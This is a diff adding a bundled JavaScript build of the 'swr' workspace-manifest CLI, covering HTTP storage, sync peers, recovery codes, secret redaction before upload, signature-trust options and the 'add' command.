+    checkUrl(template.replace(PLACEHOLDER, 'x'), template.slice(0, 120));
+    const shown = template.slice(0, 200);
+    const fail = (why) => storeError(shown, why);
+    async function request(method, url, body) {
+        let res;
+        try {
+            res = await fetch(url, {
+                method,
+                ...(body ? { body } : {}),
+                headers: {
+                    ...headers(ctx),
+                    ...(body ? { 'content-type': 'application/octet-stream' } : {})
+                },
+                redirect: 'manual',
+                signal: AbortSignal.timeout(ctx.requestMs)
+            });
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            throw classify(err);
+        }
+        if (transientStatus(res.status)) {
+            await res.body?.cancel().catch(() => undefined);
+            throw new Transient(`HTTP ${res.status}`, retryAfterSeconds(res.headers.get('retry-after')));
+        }
+        return res;
+    }
+    return {
+        spelling: shown,
+        async put(bytes, meta) {
+            const url = fillTemplate(template, meta);
+            await withRetries(`PUT ${url}`, ctx, async () => {
+                const res = await request('PUT', url, bytes);
+                await res.body?.cancel().catch(() => undefined);
+                if (res.status < 200 || res.status > 299)
+                    throw fail(`PUT answered HTTP ${res.status}`);
+            }).catch(err => {
+                throw err instanceof Transient ? fail(err.message) : err;
+            });
+            return url;
+        },
+        locate(name) {
+            if (template.includes('{sha256}'))
+                throw new UsageError(`${shown}: names each copy by its hash; pull it with the recovery code (--code)`);
+            return fillTemplate(template, { name, sha256: '' });
+        },
+        async get(locator) {
+            checkUrl(locator, shown);
+            return withRetries(`GET ${locator}`, ctx, async () => {
+                const res = await request('GET', locator);
+                if (res.status === 404) {
+                    await res.body?.cancel().catch(() => undefined);
+                    throw fail('no copy there (HTTP 404)');
+                }
+                if (res.status !== 200) {
+                    await res.body?.cancel().catch(() => undefined);
+                    throw fail(`GET answered HTTP ${res.status}`);
+                }
+                let bytes;
+                try {
+                    bytes = await readBody(res, MAX_BUNDLE_BYTES);
+                }
+                catch (err) {
+                    if (err instanceof Transient)
+                        throw err;
+                    if (err.name === 'TimeoutError' || err.name === 'AbortError')
+                        throw new Transient('the body did not arrive within the request time limit');
+                    if (/terminated|other side closed/i.test(err.message))
+                        throw new Transient('the body was cut short');
+                    throw fail(err.message);
+                }
+                const lm = Date.parse(res.headers.get('last-modified') ?? '');
+                return { bytes, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
+            });
+        },
+        async stat(locator) {
+            try {
+                checkUrl(locator, shown);
+                const res = await withRetries(`HEAD ${locator}`, ctx, () => request('HEAD', locator));
+                await res.body?.cancel().catch(() => undefined);
+                if (res.status !== 200)
+                    return { reachable: false, detail: `HTTP ${res.status}` };
+                const lm = Date.parse(res.headers.get('last-modified') ?? '');
+                return { reachable: true, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
+            }
+            catch (err) {
+                return { reachable: false, detail: err.message };
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/open.ts
+/** A store from its spelling (`--to`, `--from`) or from a locator (a recovery code, a record). */
+
+
+
+
+function openStore(spec, ctx) {
+    switch (storeKind(spec)) {
+        case 'git':
+            return gitStore(spec, ctx);
+        case 'http':
+            return httpStore(spec, ctx);
+        case 'actions':
+            if (!ctx.actions)
+                throw new UsageError('the Actions cache store is not available here');
+            return ctx.actions(ctx);
+        default:
+            throw new UsageError(`unknown store ${JSON.stringify(spec.slice(0, 120))}: use git:REMOTE, an http(s) URL template, or actions`);
+    }
+}
+/** The store that holds the copy at `locator`. */
+function storeOfLocator(locator, ctx) {
+    if (storeKind(locator) === 'git')
+        return gitStore(`git:${parseGitLocator(locator).remote}`, ctx);
+    return openStore(locator, ctx);
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/peers.ts
+/**
+ * Named peers: other machines' sync public keys (X-Wing), so `swr push --to-peer NAME` seals a copy
+ * that they can open. Kept in the private state directory (`sync/peers.json`); a key is added once
+ * under a name and never silently replaced. Fingerprints (the recipient id) are for checking a key
+ * out of band: a key taken on trust is encryption to whoever handed it over.
+ */
+
+
+
+
+
+
+
+const peers_FILE = 'peers.json';
+const MAX_PEERS = 256;
+function file(stateDir) {
+    return external_node_path_default().join(stateDir, 'sync', peers_FILE);
+}
+function loadPeers(stateDir) {
+    let text;
+    try {
+        const st = external_node_fs_default().lstatSync(file(stateDir));
+        if (!st.isFile() || st.size > 1 << 20)
+            throw new SwrError(`${file(stateDir)}: not a regular file under 1 MiB`, errors_EXIT.UNREPAIRABLE);
+        text = external_node_fs_default().readFileSync(file(stateDir), 'utf8');
+    }
+    catch (err) {
+        if (errnoCode(err) === 'ENOENT')
+            return [];
+        throw err;
+    }
+    let doc;
+    try {
+        doc = JSON.parse(text);
+    }
+    catch {
+        throw new SwrError(`${file(stateDir)}: not JSON`, errors_EXIT.UNREPAIRABLE);
+    }
+    return Object.entries(doc.peers ?? {}).map(([name, v]) => {
+        const key = typeof v === 'string' ? parsePublicKey(v) : undefined;
+        if (!key || !NAME_RE.test(name))
+            throw new SwrError(`${file(stateDir)}: peer "${name.slice(0, 64)}" is malformed`, errors_EXIT.UNREPAIRABLE);
+        return { name, key, fingerprint: recipientId(key) };
+    });
+}
+function save(stateDir, peers) {
+    ensurePrivateDir(stateDir, 'sync');
+    const doc = {
+        format: 'swr-peers/1',
+        peers: Object.fromEntries(peers.map(p => [p.name, p.key.toString('base64')]))
+    };
+    writeFileAtomic(file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
+}
+/** Add a peer; the same key under the same name again is a no-op, anything else a refusal. */
+function addPeer(stateDir, name, keyText) {
+    if (!NAME_RE.test(name))
+        throw new UsageError(`bad peer name ${JSON.stringify(name.slice(0, 64))}: use letters, digits, ".", "_" or "-"`);
+    const key = parsePublicKey(keyText);
+    if (!key)
+        throw new UsageError('not a sync public key (base64 of 1216 bytes, as "swr peer mine" prints)');
+    const peers = loadPeers(stateDir);
+    const peer = { name, key, fingerprint: recipientId(key) };
+    const same = peers.find(p => p.name === name);
+    if (same) {
+        if (same.key.equals(key))
+            return { peer: same, added: false };
+        throw new UsageError(`peer "${name}" already has another key: remove it first`);
+    }
+    if (peers.length >= MAX_PEERS)
+        throw new UsageError(`at most ${MAX_PEERS} peers`);
+    save(stateDir, [...peers, peer]);
+    return { peer, added: true };
+}
+function removePeer(stateDir, name) {
+    const peers = loadPeers(stateDir);
+    const gone = peers.find(p => p.name === name);
+    if (!gone)
+        throw new UsageError(`no peer named "${name.slice(0, 64)}"`);
+    save(stateDir, peers.filter(p => p !== gone));
+    return gone;
+}
+function findPeer(stateDir, name) {
+    const p = loadPeers(stateDir).find(x => x.name === name);
+    if (!p)
+        throw new UsageError(`no peer named "${name.slice(0, 64)}" (add it with "swr peer add")`);
+    return p;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/recovery-code.ts
+/**
+ * The recovery code `swr push` prints: everything a fresh machine needs to find one stored copy and
+ * to know it is the one that was pushed, in one line a person can type:
+ *
+ *   swr1:PIN:WORD:LOCATOR
+ *
+ *   PIN      the first 125 bits of the SHA-256 of the stored bytes, 25 base32 letters in five
+ *            groups of five (abcde-fghij-…); a copy whose hash differs is refused
+ *   WORD     a checksum word over PIN and LOCATOR: most typing mistakes are caught before any
+ *            network access (one in 128 slips through, and is then refused by the PIN or the store)
+ *   LOCATOR  where the copy is (store.ts): git:REMOTE#NAME, an http(s) URL, or actions:KEY
+ *
+ * The code holds no secret: the bundle is sealed, and opening it needs the sync key.
+ */
+
+
+
+const CODE_PREFIX = 'swr1';
+const B32 = 'abcdefghijklmnopqrstuvwxyz234567';
+const PIN_CHARS = 25;
+/** Short, distinct, easy to say and to type. */
+const WORDS = ('acorn amber anchor apple arrow aspen badge bamboo banjo barley basil beacon berry birch ' +
+    'bison blossom bonfire breeze brick bridge brook cabin cactus camel candle canyon carbon cargo ' +
+    'cedar cello chalk cherry cider cinder citrus clover cobalt comet copper coral cotton crane ' +
+    'crater cricket dahlia delta denim desert dolphin dune eagle ember falcon fern fiddle fjord ' +
+    'flint forest fossil garnet geyser ginger glacier granite gravel harbor hazel heron hickory ' +
+    'honey island ivory jasper juniper kayak kettle lagoon lantern lemon lilac linen lotus magnet ' +
+    'maple marble meadow mesa mint moss nectar nickel nutmeg oasis olive onyx orbit orchid otter ' +
+    'oyster paddle pebble pepper pine planet plum prairie quartz quill radish raven reef ribbon ' +
+    'river rocket saddle salmon sandal sierra silver spruce summit tundra tulip velvet violet ' +
+    'walnut willow zephyr').split(' ');
+function pinOf(sha256Hex) {
+    const bytes = Buffer.from(sha256Hex, 'hex');
+    let bits = '';
+    for (const b of bytes.subarray(0, 16))
+        bits += b.toString(2).padStart(8, '0');
+    let out = '';
+    for (let i = 0; i < PIN_CHARS; i++)
+        out += B32[parseInt(bits.slice(i * 5, i * 5 + 5), 2)];
+    return out;
+}
+function checkWord(pin, locator) {
+    const h = (0,external_node_crypto_.createHash)('sha256').update(`swr-code\0${pin}\0${locator}`).digest();
+    return WORDS[(h[0] ?? 0) & 127];
+}
+function grouped(pin) {
+    return pin.match(/.{1,5}/g)?.join('-') ?? pin;
+}
+function makeCode(locator, sha256Hex) {
+    const pin = pinOf(sha256Hex);
+    return `${CODE_PREFIX}:${grouped(pin)}:${checkWord(pin, locator)}:${locator}`;
+}
+/** Parse a typed code; every mistake is a one-line usage error. */
+function parseCode(text) {
+    const code = text.trim();
+    const parts = /^([^:]*):([^:]*):([^:]*):(.+)$/s.exec(code);
+    if (!parts || parts[1]?.toLowerCase() !== CODE_PREFIX)
+        throw new UsageError(`not a recovery code (it starts with "${CODE_PREFIX}:")`);
+    const pin = (parts[2] ?? '').toLowerCase().replace(/[-\s]/g, '');
+    if (pin.length !== PIN_CHARS || [...pin].some(c => !B32.includes(c)))
+        throw new UsageError(`recovery code: the pin has ${PIN_CHARS} letters a-z and digits 2-7`);
+    const locator = parts[4] ?? '';
+    if (/\p{Cc}/u.test(locator) || locator.length > 2000 || !storeKind(locator))
+        throw new UsageError('recovery code: the locator is not a git:, http(s): or actions: one');
+    const word = (parts[3] ?? '').toLowerCase();
+    if (word !== checkWord(pin, locator))
+        throw new UsageError('recovery code: the checksum word does not match (a typo in the pin, the word or the locator)');
+    return { pin, locator };
+}
+/** Whether bytes with this SHA-256 are the copy the code names. */
+function pinMatches(code, sha256Hex) {
+    return pinOf(sha256Hex) === code.pin;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/redact.ts
+/**
+ * A copy published in clear has its known token shapes (GitHub, GitLab, npm, OpenAI, Hugging Face,
+ * Slack, AWS, Google, JWTs, PEM private keys, URL passwords: run/scrub.ts) replaced by `${VAR}`
+ * references before it leaves the machine; `pull --expand` fills them back from the environment.
+ *
+ * Each distinct value gets its own variable (GITHUB_TOKEN, then GITHUB_TOKEN_2, …), never one whose
+ * `${NAME}` already appears in the text, so expansion touches exactly what redaction replaced. The
+ * values are replaced as they appear in the manifest's JSON text, and filled back JSON-escaped:
+ * the expanded text is byte for byte the signed one, so its signatures hold again (and a wrong or
+ * missing value is refused by the signature gate, never written).
+ */
+
+
+function preview(value) {
+    return value.length <= 12 ? '…' : `${value.slice(0, 4)}…${value.slice(-4)}`;
+}
+function redact(text) {
+    const byValue = new Map();
+    const used = new Set();
+    const previews = {};
+    const nameFor = (base, value) => {
+        const known = byValue.get(value);
+        if (known)
+            return known;
+        let name = base;
+        for (let n = 2; used.has(name) || text.includes(`\${${name}}`); n++)
+            name = `${base}_${n}`;
+        used.add(name);
+        byValue.set(value, name);
+        previews[name] = preview(value);
+        return name;
+    };
+    let out = text;
+    for (const { re, variable } of NAMED_TOKEN_SHAPES)
+        out = out.replace(re, (m) => `\${${nameFor(variable, m)}}`);
+    return { text: out, variables: [...used], previews };
+}
+/** `text` with each `${VAR}` of `variables` filled from `env` (JSON-escaped); unset ones refused. */
+function redact_expand(text, variables, env) {
+    const missing = variables.filter(v => env[v] === undefined || env[v] === '');
+    if (missing.length > 0)
+        throw new UsageError(`pull --expand: ${missing.join(', ')} ${missing.length === 1 ? 'is' : 'are'} not set (the copy was redacted; set ${missing.length === 1 ? 'it' : 'them'} to the original values)`);
+    let out = text;
+    for (const v of variables)
+        out = out.split(`\${${v}}`).join(JSON.stringify(env[v]).slice(1, -1));
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/replicas.ts
+/**
+ * What this machine pushed, and where: one record per manifest in the private state directory
+ * (`sync/replicas.json`), read by `swr sync status` to check each copy's reachability, hash and
+ * age. The record is a convenience, not a trust anchor: a pull checks the pin it is given.
+ */
+
+
+
+
+
+const MAX_MANIFESTS = 200;
+function replicas_file(stateDir) {
+    return external_node_path_default().join(stateDir, 'sync', 'replicas.json');
+}
+function load(stateDir) {
+    try {
+        const st = external_node_fs_default().lstatSync(replicas_file(stateDir));
+        if (!st.isFile() || st.size > 4 << 20)
+            return {};
+        const doc = JSON.parse(external_node_fs_default().readFileSync(replicas_file(stateDir), 'utf8'));
+        return doc.manifests && typeof doc.manifests === 'object' ? doc.manifests : {};
+    }
+    catch (err) {
+        // A missing or damaged record is an empty one: it only lists what to check.
+        if (errnoCode(err) === 'ENOENT' || err instanceof SyntaxError)
+            return {};
+        throw err;
+    }
+}
+function replicasOf(stateDir, manifest) {
+    const list = load(stateDir)[manifest];
+    return Array.isArray(list) ? list.filter(r => r && typeof r.locator === 'string') : [];
+}
+/** Replace the record of `manifest` with `replicas` (the newest push). */
+function recordReplicas(stateDir, manifest, replicas) {
+    const all = load(stateDir);
+    delete all[manifest];
+    const kept = Object.entries(all).slice(-(MAX_MANIFESTS - 1));
+    ensurePrivateDir(stateDir, 'sync');
+    const doc = {
+        format: 'swr-replicas/1',
+        manifests: Object.fromEntries([...kept, [manifest, replicas]])
+    };
+    writeFileAtomic(replicas_file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
+}
+
+;// CONCATENATED MODULE: ./src/core/index.ts
+/**
+ * The swr engine, shared by the CLI and the GitHub Action:
+ *
+ *   load (strict parse, schema, rules, digest)
+ *     -> verify (one verifier per kind; one hash pool; incremental cache)
+ *     -> diagnose (wipe signature, cause and fix per entry)
+ *     -> report (JSON, text)
+ *
+ * It prints nothing, exits nowhere and reads no environment: the shells decide all of that.
+ */
+// The use cases, each returning a finished result, and what a result means (status, exit code).
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+// What the shells use besides the engine calls above: renderers, stores, keys, helpers.
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+// EXTERNAL MODULE: ./node_modules/commander/index.js
+var commander = __nccwpck_require__(8909);
+;// CONCATENATED MODULE: ./node_modules/commander/esm.mjs
+
+
+// wrapper to provide named exports for ESM.
+const {
+  /* program */ "DM": program,
+  /* createCommand */ "gu": createCommand,
+  /* createArgument */ "er": createArgument,
+  /* createOption */ "Ww": createOption,
+  /* CommanderError */ "b7": CommanderError,
+  /* InvalidArgumentError */ "Di": InvalidArgumentError,
+  /* InvalidOptionArgumentError */ "a2": InvalidOptionArgumentError, // deprecated old name
+  /* Command */ "uB": Command,
+  /* Argument */ "ef": Argument,
+  /* Option */ "c$": Option,
+  /* Help */ "_V": Help,
+} = commander;
+
+;// CONCATENATED MODULE: ./src/version.ts
+/** The swr version; a test keeps it equal to package.json's. */
+const VERSION = '0.1.0';
+
+;// CONCATENATED MODULE: ./src/cli/command.ts
+function commandContext(io, done) {
+    return {
+        io,
+        async run(handler, opts = {}) {
+            if (opts.startsProcesses)
+                io.ownInterrupt?.();
+            done(await handler());
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/cli/options.ts
+/**
+ * Options every command shares, and the typed readers for the others. Values are checked here so a
+ * bad flag is a one-line usage error (exit 4) that names the flag.
+ */
+
+
+function intOption(name, min, max) {
+    return (v) => {
+        if (!/^\d+$/.test(v))
+            throw new InvalidArgumentError(`${name} must be a whole number`);
+        const n = Number(v);
+        if (n < min || n > max)
+            throw new InvalidArgumentError(`${name} must be between ${min} and ${max}`);
+        return n;
+    };
+}
+function collect(v, prev) {
+    return [...(prev ?? []), v];
+}
+function manifestLocation(g, io) {
+    return locateManifest({ flag: g.manifest, env: io.env.SWR_MANIFEST, cwd: io.cwd, home: io.home });
+}
+function stateDir(io) {
+    return defaultStateDir(io.env, io.home);
+}
+/** SWR_HISTORY_LIMIT: records kept in the current history file before it rotates. */
+function historyLimits(io) {
+    const v = io.env.SWR_HISTORY_LIMIT;
+    if (v === undefined || v === '')
+        return {};
+    if (!/^\d+$/.test(v) || Number(v) < 1)
+        throw new UsageError('SWR_HISTORY_LIMIT must be a whole number of records (at least 1)');
+    return { maxRecords: Number(v) };
+}
+/** The options every command takes: where the manifest is, and how to print. */
+function withGlobals(cmd) {
+    return cmd
+        .option('-m, --manifest <file>', 'manifest file (default: $SWR_MANIFEST or the nearest .swr/manifest.json)')
+        .option('--workspace <dir>', 'directory the manifest describes (overrides the manifest)')
+        .option('--json', 'print a JSON document on stdout and nothing else')
+        .option('-q, --quiet', 'print nothing when healthy')
+        .option('--no-color', 'never colour the output (NO_COLOR is honoured too)');
+}
+function jobsOption(cmd, what = 'hashing threads (default: cores)') {
+    return cmd.option('--jobs <n>', what, intOption('--jobs', 1, 32));
+}
+/** What to check and how hard: shared by check and why. */
+function checkOptions(cmd) {
+    return jobsOption(withGlobals(cmd)
+        .option('--only <id...>', 'check only these entries')
+        .option('--deep', 'also compare the full sha256 of blobs')
+        .option('--meta', 'sizes, modes, types and tree structure only: no content hashing')
+        .option('--no-cache', 'ignore the incremental cache and re-hash everything'));
+}
+/** The signature policy: every command that may run manifest code, or judges signatures. */
+function trustOptions(cmd) {
+    return cmd
+        .addOption(new Option('--require <kinds>', 'signatures that must hold before code runs (default: $SWR_REQUIRE or any)').choices(['any', 'hmac', 'mldsa', 'both']))
+        .option('--min-version <n>', 'refuse manifests whose version is below N (rollback floor)', intOption('--min-version', 1, Number.MAX_SAFE_INTEGER))
+        .option('--trusted-signer <fp-or-key>', 'trust this ML-DSA fingerprint or public key for this run (repeatable; also $SWR_TRUSTED_SIGNERS)', collect)
+        .option('--threshold <n>', 'distinct trusted ML-DSA signers required (default 1)', intOption('--threshold', 1, 16))
+        .option('--i-trust-this-manifest <digest>', 'waive the signature requirement for exactly this manifest digest (scope, expiry and floor still apply)');
+}
+function lockOption(cmd) {
+    return cmd.option('--lock-timeout <s>', 'give up waiting for another run after S seconds (default 300)', intOption('--lock-timeout', 0, 86400));
+}
+/** The editing rules' one escape hatch, spelled the same on every command that writes. */
+function approveOption(cmd, verb = 'edit') {
+    return cmd.option('--approve-digest <digest>', `${verb} a manifest whose signature does not verify, after reviewing exactly this content`);
+}
+
+;// CONCATENATED MODULE: ./src/cli/trust-context.ts
+/**
+ * Turning the environment and flags into the gate's policy and the signing keys. Secrets come from
+ * SWR_HMAC_KEY or the private state directory; trusted signers from the trust store, this machine's
+ * own identity, --trusted-signer and SWR_TRUSTED_SIGNERS; never from the workspace.
+ */
+
+
+
+const OWN_PUBLIC_KEY_FILE = 'mldsa87.pub';
+/** This machine's own fingerprint, from the public key written at keygen (no ML-DSA load). */
+function ownFingerprint(dir) {
+    try {
+        const line = external_node_fs_default().readFileSync(keys_keyPath(dir, OWN_PUBLIC_KEY_FILE), 'utf8').split('\n')[0] ?? '';
+        return normalizeFingerprint(line);
+    }
+    catch {
+        return undefined;
+    }
+}
+function buildPolicy(m, flags, io) {
+    const dir = stateDir(io);
+    return makePolicy(m, {
+        stateDir: dir,
+        require: flags.require ?? io.env.SWR_REQUIRE ?? 'any',
+        hmacKeyText: io.env.SWR_HMAC_KEY,
+        local: true,
+        trustedSigners: [
+            ...(flags.trustedSigner ?? []),
+            ...(io.env.SWR_TRUSTED_SIGNERS ? [io.env.SWR_TRUSTED_SIGNERS] : [])
+        ],
+        ownFingerprint: ownFingerprint(dir),
+        threshold: flags.threshold,
+        minVersion: flags.minVersion,
+        waiveDigest: flags.iTrustThisManifest,
+        run: { repository: io.env.GITHUB_REPOSITORY, ref: io.env.GITHUB_REF },
+        now: new Date()
+    });
+}
+/** The keys this machine can sign with (loads ML-DSA only when an identity exists). */
+async function signingKeys(io) {
+    const dir = stateDir(io);
+    const hmacKey = loadHmacKey(dir, io.env.SWR_HMAC_KEY)?.key;
+    const seed = loadIdentitySeed(dir);
+    return { hmacKey, identity: seed ? await identityFromSeed(seed) : undefined };
+}
+
+;// CONCATENATED MODULE: ./src/cli/edit.ts
+/**
+ * Saving an edited manifest under the editing rules: when `resign` (an authorised edit of a signed
+ * manifest, or a manifest this command created from disk) it is signed with the keys at hand;
+ * otherwise it is saved unsigned. Signatures over the old body are dropped either way. `created`
+ * makes the write exclusive: a new manifest never replaces one that appeared meanwhile.
+ */
+
+
+
+async function saveEdited(file, doc, how, io) {
+    const opts = { create: how.created, ...(how.sidecars ? { sidecars: how.sidecars } : {}) };
+    const dir = stateDir(io);
+    // Versions only go up on this machine, even when an older copy was approved or the file recreated.
+    const floor = recall(dir, file, doc.body.scope)?.version ?? 0;
+    if (how.resign) {
+        const keys = await signingKeys(io);
+        if (hasSigningKey(keys)) {
+            const signed = await signDocument(doc, keys, floor);
+            saveManifest(file, signed.doc, opts);
+            remember(dir, file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
+            return { digest: signed.digest, version: signed.doc.body.version, signed: true };
+        }
+    }
+    const version = how.created && floor === 0 ? doc.body.version : Math.max(doc.body.version, floor) + 1;
+    const body = { ...doc.body, version };
+    saveManifest(file, { ...doc, body, signatures: [] }, opts);
+    const digest = manifestDigest(body);
+    // An approved edit saved unsigned (no key here) is still what this machine accepted.
+    if (how.resign && !how.created)
+        remember(dir, file, { version, digest, signed: false }, body.scope);
+    const note = how.resign
+        ? 'no signing key here: the edited manifest is unsigned; sign it with "swr sign"'
+        : undefined;
+    return { digest, version, signed: false, ...(note ? { note } : {}) };
+}
+
+;// CONCATENATED MODULE: ./src/cli/lock.ts
+/**
+ * Running a command under the manifest's lock (doctor, restore and every editing command), and
+ * doctor/restore under the workspace's lock as well. A lock lost while held (the state directory
+ * wiped mid-run) stops the run: at once for a command that starts nothing, after its recipes are
+ * stopped for one that does; either way it ends with EXIT.CONFLICT and one line.
+ */
+
+
+const DEFAULT_LOCK_WAIT_S = 300;
+async function withManifestLock(flags, io, fn) {
+    if (flags.lock === false)
+        return fn();
+    return withLock(manifestLocation(flags, io).file, flags, io, fn);
+}
+/** The workspace's own lock, keyed by its real path: two manifests of one directory take turns. */
+async function withWorkspaceLock(workspace, flags, io, fn) {
+    if (flags.lock === false)
+        return fn();
+    return withLock(workspace, flags, io, fn, 'workspace ');
+}
+async function withLock(subject, flags, io, fn, what = '') {
+    let lost;
+    const release = await lockWorkspace({
+        stateDir: stateDir(io),
+        subject,
+        waitMs: (flags.lockTimeout ?? DEFAULT_LOCK_WAIT_S) * 1000,
+        abort: io.abort,
+        onWait: holder => void io.stderr.write(`swr: waiting for the lock on ${what}${subject} (${holder})\n`),
+        onLost: why => {
+            lost = `lost the lock on ${what}${subject}: ${why}`;
+            io.stop?.(lost, errors_EXIT.CONFLICT);
+        }
+    });
+    try {
+        let result;
+        try {
+            result = await fn();
+        }
+        catch (err) {
+            // What failed after the lock was lost (a journal in a wiped state directory) failed for that.
+            if (lost)
+                throw new SwrError(lost, errors_EXIT.CONFLICT);
+            throw err;
+        }
+        if (lost)
+            throw new SwrError(lost, errors_EXIT.CONFLICT);
+        return result;
+    }
+    finally {
+        await release();
+    }
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/add.ts
+/**
+ * `swr add PATH...`: capture entries from disk now. Creates `./.swr/manifest.json` describing the
+ * current directory when no manifest exists; never overwrites a manifest that appeared meanwhile.
+ */
+
+
+
+
+
+
+
+
+/**
+ * Load the manifest to edit under the editing rules, or start a new one (workspace: --workspace,
+ * else the .swr's parent, else cwd).
+ */
+async function openForEdit(flags, io) {
+    const located = manifestLocation(flags, io);
+    if (located.how !== 'new' && external_node_fs_default().existsSync(located.file)) {
+        const m = loadManifest(located.file, { workspace: flags.workspace, cwd: io.cwd });
+        if (m.format !== 3) {
+            throw new UsageError(`${located.file} is a format-2 manifest: convert it first with "swr import"`);
+        }
+        const auth = await authorizeEdit(m, buildPolicy(m, {}, io), flags.approveDigest);
+        const opened = {
+            file: m.file,
+            doc: m.doc,
+            workspace: m.workspace,
+            created: false,
+            resign: auth.resign
+        };
+        return auth.note ? { ...opened, note: auth.note } : opened;
+    }
+    const dir = external_node_path_default().dirname(located.file);
+    const workspace = flags.workspace
+        ? external_node_path_default().resolve(io.cwd, flags.workspace)
+        : external_node_path_default().basename(dir) === '.swr'
+            ? external_node_path_default().dirname(dir)
+            : io.cwd;
+    if (!external_node_fs_default().existsSync(workspace) || !external_node_fs_default().statSync(workspace).isDirectory()) {
+        throw new UsageError(`workspace ${workspace} is not a directory`);
+    }
+    const real = external_node_fs_default().realpathSync(workspace);
+    if (real === '/')
+        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
+    const doc = newDocument(located.file, real, new Date());
+    return { file: located.file, doc, workspace: real, created: true, resign: true };
+}
+async function add_addCommand(paths, flags, io) {
+    if (flags.id && paths.length > 1)
+        throw new UsageError('--id names one entry: give one PATH with it');
+    const m = await openForEdit(flags, io);
+    const taken = new Set(m.doc.body.entries.map(e => e.id));
+    const takenPaths = new Map(m.doc.body.entries.map(e => [e.path, e.id]));
+    const added = [];
+    for (const input of paths) {
+        const rel = toManifestPath(input, io.cwd, m.workspace);
+        if (!rel.ok)
+            throw new UsageError(rel.why);
+        const dup = takenPaths.get(rel.path);
+        if (dup)
+            throw new UsageError(`${input}: already tracked as entry "${dup}"`);
+        const captured = await captureEntry(m.workspace, {
+            path: rel.path,
+            id: flags.id,
+            kind: flags.kind,
+            tier: flags.tier,
+            needs: flags.needs,
+            restore: flags.restore,
+            timeout_s: flags.timeout,
+            smoke: flags.smoke,
+            note: flags.note,
+            sentinels: flags.sentinel,
+            ignore: flags.ignore,
+            minFiles: flags.minFiles,
+            maxFiles: flags.maxFiles,
+            fullHash: flags.fullHash
+        }, taken, {
+            pool: { jobs: flags.jobs },
+            exclude: ownPaths(m.file, stateDir(io)),
+            stateDir: stateDir(io)
+        });
+        taken.add(captured.entry.id);
+        takenPaths.set(captured.entry.path, captured.entry.id);
+        added.push(captured);
+    }
+    const unknownNeeds = (flags.needs ?? []).filter(n => !taken.has(n));
+    if (unknownNeeds.length > 0)
+        throw new UsageError(`--needs: no entry with id ${unknownNeeds.join(', ')}`);
+    m.doc.body.entries.push(...added.map(a => a.entry));
+    const sidecars = new Map(added.flatMap(a => (a.index ? [[indexPath(m.file, a.entry.id), a.index]] : [])));
+    const saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: m.created, sidecars }, io);
+    if (flags.json) {
+        io.stdout.write(JSON.stringify({ schema: 'swr.add/1', manifest: m.file, added: added.map(a => a.entry) }, null, 2) + '\n');
+    }
+    else if (!flags.quiet) {
+        if (m.created)
+            io.stdout.write(`created ${external_node_path_default().relative(io.cwd, m.file) || m.file} describing ${m.workspace}\n`);
+        for (const { entry } of added)
+            io.stdout.write(`added ${entry.kind} "${entry.id}" (${entry.path}, tier ${entry.tier}${add_describe(entry)})\n`);
+        io.stdout.write(saved.signed
+            ? `signed version ${saved.version}, digest ${saved.digest}\n`
+            : `note: ${saved.note ?? m.note ?? 'manifest is unsigned: run "swr sign" to approve it'}\n`);
+    }
+    return errors_EXIT.HEALTHY;
+}
+function add_describe(e) {
+    switch (e.kind) {
+        case 'file':
+            return `, ${e.expect.size.toLocaleString('en-US')} bytes, mode ${e.expect.mode}`;
+        case 'blob':
+            return `, ${e.expect.size.toLocaleString('en-US')} bytes`;
+        case 'tree':
+            return `, ${(e.expect.files ?? 0).toLocaleString('en-US')} files, sentinels: ${e.expect.sentinels.join(', ') || 'none'}`;
+        case 'link':
+            return `, -> ${e.expect.target}`;
+    }
+}
+function registerAdd(program, { io, run }) {
+    const cmd = withGlobals(program.command('add'))
+        .description('track PATH(s): capture size, hash, mode, link target or tree digests from disk now')
+        .argument('<path...>', 'files, directories or symlinks inside the workspace')
+        .option('--id <id>', 'entry id (default: derived from the path)')
+        .addOption(new Option('--kind <kind>', 'entry kind (default: from what is on disk)').choices([...KINDS]))
+        .option('--tier <n>', `restore tier ${TIERS[0]}-${TIERS[TIERS.length - 1]} (0 credentials, 1 scripts, 2 source, 3 downloads, 4 builds)`, intOption('--tier', 0, 4))
+        .option('--sentinel <relpath>', 'tree: a file that must exist and be non-empty (repeatable)', collect)
+        .option('--needs <id>', 'entry that must be healthy before this one is restored (repeatable)', collect)
+        .option('--restore <cmd>', 'shell recipe that recreates the entry')
+        .option('--timeout <s>', 'recipe timeout in seconds', intOption('--timeout', 1, 86400))
+        .option('--smoke <cmd>', 'shell command that proves the entry works')
+        .option('--ignore <name-or-glob>', 'tree: leave out of the walk, a .gitignore rule (repeatable)', collect)
+        .option('--note <text>', 'why this entry is fragile (shown by "swr why")')
+        .option('--min-files <n>', 'tree: fewest files allowed (default: files now)', intOption('--min-files', 0, Number.MAX_SAFE_INTEGER))
+        .option('--max-files <n>', 'tree: most files allowed (default: files now)', intOption('--max-files', 0, Number.MAX_SAFE_INTEGER))
+        .option('--no-full-hash', 'blob: record size, mode and head/tail only, not the full sha256 (a huge file then never gets read in full by check)');
+    approveOption(jobsOption(cmd)).action((paths, flags) => run(() => withManifestLock(flags, io, () => add_addCommand(paths, flags, io))));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/attacktest.ts
+/**
+ * `swr attacktest`: run the attack suite against this build (the same classes and oracle as the
